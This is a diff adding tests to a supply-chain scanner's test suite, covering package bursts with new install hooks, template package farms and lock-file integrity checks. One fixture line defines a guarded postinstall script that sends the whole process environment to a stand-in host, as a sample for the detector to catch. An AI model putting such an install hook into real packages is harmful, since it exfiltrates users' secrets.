@@ -113,6 +113,117 @@ def new_dependencies(reg, d):
        "more new dependencies than are looked at", (len(reg.hits), r))
 
 
+GUARD = "if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
+SENDS = GUARD + "require('https').request('https://x.example.invalid/').end(JSON.stringify(process.env));\n"
+
+
+def burst(reg, name, minute, hook="node setup.js", by="ada", setup=SENDS):
+    """Two versions of a package; the second, of that minute, brings an install script."""
+    for v, more in (("1.0.0", {}), ("1.1.0", {"scripts": {"postinstall": hook}} if hook else {})):
+        files = {"package.json": package(name, v, **more), "index.js": "module.exports = 1;\n"}
+        if hook and more:
+            files["setup.js"] = setup
+        reg.packages.setdefault(name, {})[v] = tgz_of(files)
+        reg.more[name, v] = {**more, "_npmUser": {"name": by, "email": f"{by}@example.invalid"}}
+    reg.fields[name] = {}
+    dated(reg, name, {"created": "2020-01-01T00:00:00.000Z", "1.0.0": "2026-01-01T00:00:00.000Z",
+                      "1.1.0": f"2026-03-10T12:{minute:02}:00.000Z"}, (by,))
+
+
+def crowds(reg, d):
+    """Packages of one run beside each other."""
+    e = env(reg, d)
+
+    def rules(r):
+        return {x["name"]: [f["rule"] for f in x.get("findings", [])] for x in r.json["results"]}
+
+    five = [f"wave-{i}" for i in range(5)]
+    for i, name in enumerate(five):
+        burst(reg, name, 2 * i)
+    r = check(*five, env=e)
+    ok(all("packages-burst-acts" in got for got in rules(r).values()) and b"5 packages in 9 minutes" in r.out,
+       "five packages in ten minutes with the same new hook", r)
+    again = check(*reversed(five), "--jobs", "1", env=e)
+    ok({n: sorted(x) for n, x in rules(again).items()} == {n: sorted(x) for n, x in rules(r).items()}, "in whatever order", again)
+    r = check(*five[:4], env=e)
+    ok(not any("packages-burst-acts" in got for got in rules(r).values()), "four are no burst", r)
+    burst(reg, "wave-4", 30)
+    r = check(*five, env=e)
+    ok(not any("packages-burst-acts" in got for got in rules(r).values()), "nor are five with half an hour between", r)
+    burst(reg, "wave-4", 4, by="bob")
+    r = check(*five, env=e)
+    ok(not any("packages-burst-acts" in got for got in rules(r).values()), "nor five of two publishers", r)
+    burst(reg, "wave-4", 4, hook="node setup.js --other", setup=SENDS + "// other\n")
+    r = check(*five, env=e)
+    ok(not any("packages-burst-acts" in got for got in rules(r).values()), "nor five with different hooks and files", r)
+    many = [f"@mono/part-{i}" for i in range(20)]
+    for name in many:
+        burst(reg, name, 1, hook="", by="GitHub Actions")
+    r = check(*many, env=e)
+    ok(r.code == 0 and verdicts(r) == ["clean"] * 20, "a repository that releases twenty packages together is ordinary", r)
+
+    put(f"{d}/wave/package.json", package("app"))
+    lock = {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "app", "version": "1.0.0"}, **{
+        f"node_modules/{n}": {"version": "1.1.0", "resolved": f"{reg.url}{n}/-/{n}-1.1.0.tgz",
+                              "integrity": sri(reg.packages[n]["1.1.0"])} for n in five}}}
+    burst(reg, "wave-4", 4)
+    lock["packages"]["node_modules/wave-4"]["integrity"] = sri(reg.packages["wave-4"]["1.1.0"])
+    put(f"{d}/wave/package-lock.json", json.dumps(lock))
+    reg.hits.clear()
+    r = check(f"{d}/wave/package-lock.json", env=e)
+    ok(not any("packages-burst-acts" in got for got in rules(r).values()) and "/wave-0" not in reg.hits,
+       "a lock file asks for no documents", r)
+    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
+    ok(all({"packages-burst-acts", "update-first-hook-acts"} <= set(got) for got in rules(r).values()), "with --history it does", r)
+    del reg.packages["wave-0"]["1.1.0"], reg.documents["wave-0"]
+    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
+    got = {x["name"]: x for x in r.json["results"]}
+    ok(got["wave-0"]["verdict"] != "clean", "a version that the registry no longer lists", r)
+    lock["packages"]["node_modules/wave-1"]["integrity"] = sri(b"something else")
+    put(f"{d}/wave/package-lock.json", json.dumps(lock))
+    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
+    got = {x["name"]: x for x in r.json["results"]}
+    ok("integrity" in (got["wave-1"]["reason"] or ""), "the integrity of the lock file decides, not the document's", r)
+    del reg.documents["wave-2"], reg.packages["wave-2"]
+    plain = reg.add("still-there", "1.0.0")
+    lock["packages"] = {"node_modules/still-there": {"version": "1.0.0", "resolved": f"{reg.url}still-there/-/still-there-1.0.0.tgz",
+                                                     "integrity": sri(plain)}}
+    put(f"{d}/wave/package-lock.json", json.dumps(lock))
+    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
+    ok(r.code == 0, "an ordinary package with its history", r)
+    reg.documents["still-there"] = {"name": "still-there"}
+    r = check(f"{d}/wave/package-lock.json", "--history", env=e)
+    ok(r.code == 3 and "history" in r.json["results"][0]["reason"], "a document that is none: the package alone is not clean", r)
+    del reg.documents["still-there"]
+
+
+def templates(reg, d):
+    """Packages of no use whose README is the same but for names and numbers."""
+    e = env(reg, d)
+
+    def made(i, text, **more):
+        path = f"{d}/farm/{i}.tgz"
+        put(path, tgz_of({"package.json": package(f"elf-quiet-brook-{i}", **more), "README.md": text, "index.js": ""}))
+        return path
+
+    def farm(n):
+        return [made(i, f"# elf-quiet-brook-{i}\n\nThis wonderful package is number {i} of a series that goes on and on.") for i in range(n)]
+
+    r = check(*farm(40), env=e)
+    found = [[f["rule"] for f in x["findings"]] for x in r.json["results"]]
+    ok(r.code == 1 and all(f == ["package-farm-cluster"] for f in found) and b"40 packages" in r.out, "forty of one template", found[:3])
+    r = check(*farm(39), env=e)
+    ok(r.code == 0, "thirty-nine are a coincidence", r)
+    one = farm(1)
+    r = check(*one * 45, env=e)
+    ok(r.code == 0, "forty-five times the same package is one", r)
+    other = [made(i, f"# elf\n\nA text of its own, about the matter called {chr(97 + i % 26) * 3}{chr(97 + i // 26) * 3}, and no other.") for i in range(40)]
+    r = check(*other, env=e)
+    ok(r.code == 0, "forty texts that differ in a word", r)
+    r = check(*one * 5001, env=e)
+    ok(r.code == 3 and verdicts(r).count("unknown") == 1, "more packages than are compared with each other", verdicts(r).count("unknown"))
+
+
 def moods(reg, d):
     e = env(reg, d)
     reg.mood = "broken"
@@ -195,6 +306,6 @@ def real_cache(reg, d):
 
 registry = Registry()
 with scratch() as where:
-    for part in (names, versions_before, new_dependencies, moods, lock_files, real_cache):
+    for part in (names, versions_before, new_dependencies, crowds, templates, moods, lock_files, real_cache):
         part(registry, where)
 done()
